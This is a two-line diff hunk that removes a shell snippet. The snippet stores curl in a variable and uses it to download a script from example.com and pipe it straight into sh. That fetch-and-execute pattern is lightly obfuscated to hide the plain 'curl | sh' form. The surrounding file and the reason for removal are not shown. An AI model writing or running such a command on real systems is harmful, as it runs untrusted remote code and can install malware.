@@ -1,2 +1,0 @@
-c=curl
-$c https://example.com/i | sh
